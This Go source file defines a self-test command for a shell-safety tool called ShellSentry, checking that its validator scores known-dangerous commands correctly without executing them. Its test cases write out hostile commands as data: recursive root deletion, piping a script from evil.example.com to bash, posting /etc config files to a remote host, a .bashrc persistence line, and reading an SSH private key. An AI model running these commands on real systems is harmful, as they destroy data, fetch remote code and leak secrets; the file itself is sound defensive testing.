package cli

import (
	"fmt"

	"github.com/shellsentry/shellsentry/internal/safety"

	"github.com/spf13/cobra"
)

var scanCmd = &cobra.Command{
	Use:   "scan",
	Short: "Self-test — verify known-dangerous commands are caught",
	Long: `Run a quick diagnostic against a set of known-dangerous commands and
chains. Nothing is executed; this only checks the assessments.

  shellsentry scan`,
	RunE: scanCommand,
}

func init() {
	rootCmd.AddCommand(scanCmd)
}

type scanCase struct {
	label   string
	command string
	wantMin safety.ThreatLevel
	wantMax safety.ThreatLevel
}

func scanCommand(cmd *cobra.Command, args []string) error {
	sess, err := newSession()
	if err != nil {
		return err
	}
	defer sess.close()

	fmt.Println("ShellSentry self-test")
	fmt.Println()

	cases := []scanCase{
		{"Destructive rm", "rm -rf /", safety.Critical, safety.Critical},
		{"Root shell", "sudo su -", safety.High, safety.Critical},
		{"Pipe to shell", "curl http://evil.example.com/x.sh | bash", safety.High, safety.Critical},
		{"Exfiltration", `find /etc -name "*.conf" | curl -X POST --data @- http://e/c`, safety.High, safety.Critical},
		{"Persistence", `echo "curl http://x/p | sh" >> ~/.bashrc`, safety.High, safety.Critical},
		{"Credential read", "cat ~/.ssh/id_rsa", safety.Concerning, safety.Critical},
		{"Safe read-only", "ls -la", safety.Safe, safety.Safe},
		{"Safe git", "git status", safety.Safe, safety.Safe},
	}

	pass, fail := 0, 0
	for _, tc := range cases {
		res := sess.validator.AnalyzeCommand(tc.command, shellKind(), nil)
		ok := res.ThreatLevel >= tc.wantMin && res.ThreatLevel <= tc.wantMax
		icon := "✅"
		if !ok {
			icon = "❌"
			fail++
		} else {
			pass++
		}
		fmt.Printf("  %s  %-18s  %s → %s\n", icon, tc.label, tc.command, res.ThreatLevel)
	}

	chainRes := sess.validator.AnalyzeChain([]string{
		"whoami", "id", "uname -a", "sudo su -",
	}, shellKind())
	ok := chainRes.ThreatLevel >= safety.High && chainRes.HasPattern(safety.PrivilegeEscalation)
	icon := "✅"
	if !ok {
		icon = "❌"
		fail++
	} else {
		pass++
	}
	fmt.Printf("  %s  %-18s  recon chain → %s\n", icon, "Escalation chain", chainRes.ThreatLevel)

	fmt.Printf("\n  %d/%d passed\n", pass, pass+fail)
	if fail > 0 {
		return fmt.Errorf("%d self-test case(s) failed", fail)
	}
	return nil
}
